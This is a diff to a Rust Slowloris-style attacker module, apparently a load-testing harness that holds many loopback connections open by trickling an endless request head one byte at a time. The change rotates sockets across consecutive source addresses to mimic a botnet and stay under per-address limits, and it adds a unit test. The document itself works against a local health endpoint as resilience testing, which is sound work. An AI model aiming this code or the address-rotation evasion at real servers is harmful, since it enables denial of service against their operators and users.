@@ -1,5 +1,6 @@
-//! The attacker: sockets from one loopback source address, each trickling a request head
-//! that never ends, one byte per tick, and reopened as soon as the server closes it.
+//! The attacker: sockets from `addresses` loopback source addresses in turn (a botnet,
+//! each address under the per-address share), each trickling a request head that never
+//! ends, one byte per tick, and reopened as soon as the server closes it.
 //!
 //! Each socket is a task that acts once per tick: it writes the next byte, then reads
 //! until the next tick, so a close (end of stream, a reset, or an answer such as actix's
@@ -29,9 +30,11 @@ const HEAD: &[u8] = b"GET /health/live HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slowlori
 #[derive(Debug, Clone)]
 pub struct Attack {
     pub target: SocketAddr,
-    /// Every attacker socket is bound to this address (a loopback address the app does
-    /// not trust as a proxy, e.g. 127.0.0.2).
+    /// The first source address (a loopback address the app does not trust as a proxy,
+    /// e.g. 127.0.1.1); socket `i` is bound to the `i % addresses`-th after it.
     pub source: IpAddr,
+    /// How many source addresses the sockets are spread over (1: all from `source`).
+    pub addresses: u32,
     pub sockets: usize,
     /// One byte per socket per tick.
     pub tick: Duration,
@@ -108,6 +111,7 @@ async fn connect_from(source: IpAddr, target: SocketAddr) -> io::Result<TcpStrea
 /// One slot: connect, trickle until closed, reopen; until `live` says stop or `until`.
 pub async fn slot(index: usize, attack: Arc<Attack>, live: Arc<Live>, until: Instant) -> SlotStats {
     let mut stats = SlotStats::default();
+    let source = nth_address(attack.source, index as u32 % attack.addresses.max(1));
     // The first connects are spread over one tick, as are the bytes after them.
     let offset = attack
         .tick
@@ -118,7 +122,7 @@ pub async fn slot(index: usize, attack: Arc<Attack>, live: Arc<Live>, until: Ins
         let give_up = (Instant::now() + attack.connect_timeout).min(until);
         let stream = match tokio::time::timeout_at(
             give_up,
-            connect_from(attack.source, attack.target),
+            connect_from(source, attack.target),
         )
         .await
         {
@@ -188,6 +192,14 @@ async fn trickle(mut stream: TcpStream, tick: Duration, live: &Live, until: Inst
     }
 }
 
+/// The `n`th address after `first` (an IPv4 or IPv6 address plus `n`).
+pub fn nth_address(first: IpAddr, n: u32) -> IpAddr {
+    match first {
+        IpAddr::V4(v4) => IpAddr::V4(u32::from(v4).wrapping_add(n).into()),
+        IpAddr::V6(v6) => IpAddr::V6(u128::from(v6).wrapping_add(u128::from(n)).into()),
+    }
+}
+
 /// "408" for `HTTP/1.1 408 Request Timeout...`, "other bytes" for anything else.
 fn status_of(bytes: &[u8]) -> String {
     let text = String::from_utf8_lossy(bytes);
@@ -199,7 +211,9 @@ fn status_of(bytes: &[u8]) -> String {
 
 #[derive(Debug, Serialize)]
 pub struct AttackReport {
+    /// The first source address, and how many the sockets were spread over.
     pub source: IpAddr,
+    pub addresses: u32,
     pub sockets: usize,
     pub byte_every_ms: u64,
     pub reopen_delay_ms: u64,
@@ -255,6 +269,7 @@ pub fn report(
     let lifetimes = &total.lifetimes_ms;
     AttackReport {
         source: attack.source,
+        addresses: attack.addresses.max(1),
         sockets: attack.sockets,
         byte_every_ms: attack.tick.as_millis() as u64,
         reopen_delay_ms: attack.reopen_delay.as_millis() as u64,
@@ -279,7 +294,15 @@ pub fn report(
 
 #[cfg(test)]
 mod tests {
-    use super::status_of;
+    use super::{nth_address, status_of};
+
+    #[test]
+    fn sockets_are_spread_over_consecutive_addresses() {
+        let first = "127.0.1.1".parse().unwrap();
+        assert_eq!(nth_address(first, 0), first);
+        assert_eq!(nth_address(first, 99).to_string(), "127.0.1.100");
+        assert_eq!(nth_address(first, 255).to_string(), "127.0.2.0");
+    }
 
     #[test]
     fn the_status_of_what_the_server_sent_before_closing() {
